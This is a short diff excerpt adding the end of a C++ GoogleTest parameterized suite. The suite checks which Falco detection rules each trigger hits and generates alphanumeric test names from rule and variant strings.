+  EXPECT_THAT(RulesOf(hits), testing::UnorderedElementsAreArray(trigger.twin_also)) << json(hits).dump(2);
+}
+
+INSTANTIATE_TEST_SUITE_P(Rule, FalcoTriggers, testing::ValuesIn(Triggers()),
+                         [](const testing::TestParamInfo<Trigger>& info) {
+                           std::string name;
+                           for (const char c : info.param.rule + info.param.variant) {
+                             if (std::isalnum(static_cast<unsigned char>(c))) name += c;
+                           }
+                           return name;
+                         });
+
+}  // namespace
+}  // namespace sluice::test
